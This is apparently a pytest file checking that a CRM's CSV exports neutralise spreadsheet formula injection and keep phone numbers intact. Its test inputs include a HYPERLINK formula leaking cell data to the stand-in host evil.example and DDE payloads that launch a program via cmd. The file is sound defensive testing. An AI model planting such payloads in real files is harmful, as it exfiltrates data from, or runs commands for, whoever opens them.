"""Every CSV export neutralises cells a spreadsheet would run as formulas, and keeps phone numbers readable."""

import csv
import datetime as dt
import io

import pytest

from crm.contacts.models import Contact
from crm.core.csvexport import safe_cell
from crm.core.names import fold_name
from crm.db import utcnow
from crm.events import services as events
from crm.events.models import Event
from crm.membership.models import City
from tests.membership.conftest import application_form

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1dSUM(1)", "  =1+1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_get_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["+45 555 0112", "+1 (555) 010-0199", "-3", "-3.5", "Oslo", "", "a=b", "4+4",
                                   "Mayor - Oslo"])
def test_phone_numbers_numbers_and_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_lists_and_empty_values_become_text():
    assert safe_cell(["sv", "en"]) == "sv;en" and safe_cell(None) == "" and safe_cell(357000) == "357000"


def _rows(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def _no_cell_runs(rows):
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r\uff1d" or value in ("+45 555 0112", "-3"), value


def test_contacts_export(login_as):
    staff = login_as("staff")
    Contact.create(name=ATTACKS[0], email="evil@example.org", organisation=ATTACKS[1], notes=ATTACKS[2],
                   position="-3", phone="+45 555 0112")
    [row] = _rows(staff.get("/contacts/export.csv"))
    assert row["name"] == "'" + ATTACKS[0] and row["organisation"] == "'" + ATTACKS[1]
    assert row["notes"] == "'" + ATTACKS[2]
    assert row["phone"] == "+45 555 0112" and row["position"] == "-3"
    _no_cell_runs([row])


def test_applications_export(client, login_as):
    response = client.post("/apply", follow_redirects=True, data=application_form(
        authority_name="@SUM(1)", applicant_name=ATTACKS[0], applicant_position=ATTACKS[1],
        applicant_phone="+45 555 0112"))
    assert response.status_code == 200
    rows = _rows(login_as("staff").get("/applications/export.csv?status="))
    [row] = rows
    assert row["applicant_name"] == "'" + ATTACKS[0] and row["authority_name"] == "'@SUM(1)"
    _no_cell_runs(rows)


def test_cities_export(login_as):
    City.create(name="=1+2", name_key=fold_name("=1+2"), country="NO", level="city", status="active",
                region="northern_europe", website="+cmd|' /C calc'!A0")
    rows = _rows(login_as("staff").get("/cities/export.csv"))
    [row] = [r for r in rows if r["name"] == "'=1+2"]
    assert row["website"] == "'+cmd|' /C calc'!A0"
    _no_cell_runs(rows)


def test_participants_export(login_as):
    start = (utcnow() + dt.timedelta(days=10)).replace(microsecond=0)
    event = Event.create(title="Workshop", kind="workshop", timezone="Europe/Oslo", starts_at=start,
                         ends_at=start + dt.timedelta(hours=8), capacity=10, status="published", visibility="members")
    person = Contact.create(name=ATTACKS[0], email="p1@example.org", organisation=ATTACKS[1], position="@SUM(1)")
    events.register(event, contact=person, details={"consent_listed": True, "consent_share_email": True,
                                                    "organisation": ATTACKS[1]})
    [row] = _rows(login_as("staff").get(f"/events/{event.id}/participants.csv"))
    assert row["name"] == "'" + ATTACKS[0] and row["organisation"] == "'" + ATTACKS[1]
    assert row["position"] == "'@SUM(1)" and row["email"] == person.email
    _no_cell_runs([row])


def test_the_excel_version_of_each_export_starts_with_a_byte_order_mark(login_as):
    staff = login_as("staff")
    City.create(name="Bærum", name_key=fold_name("Bærum"), country="NO", level="municipality", status="active",
                region="northern_europe")
    Contact.create(name="José Medellín", email="jose@example.org")
    start = (utcnow() + dt.timedelta(days=10)).replace(microsecond=0)
    event = Event.create(title="Workshop", kind="workshop", timezone="Europe/Oslo", starts_at=start,
                         ends_at=start + dt.timedelta(hours=8), capacity=10, status="published", visibility="members")
    events.register(event, contact=Contact.get(Contact.email == "jose@example.org"),
                    details={"consent_listed": True})
    pages = {"/contacts/": "/contacts/export.csv", "/cities/": "/cities/export.csv",
             "/applications/": "/applications/export.csv", f"/events/{event.id}/participants":
             f"/events/{event.id}/participants.csv"}
    for page, export in pages.items():
        html = staff.get(page).get_data(as_text=True)
        assert f'href="{export}?excel=1' in html, page  # offered next to the plain CSV
        plain, excel = staff.get(export).get_data(), staff.get(f"{export}?excel=1").get_data()
        assert not plain.startswith(b"\xef\xbb\xbf") and excel.startswith(b"\xef\xbb\xbf"), export
        assert excel[3:] == plain
    text = staff.get("/cities/export.csv?excel=1").get_data().decode("utf-8-sig")
    assert "Bærum" in text and "José Medellín" in staff.get("/contacts/export.csv?excel=1").get_data().decode("utf-8-sig")
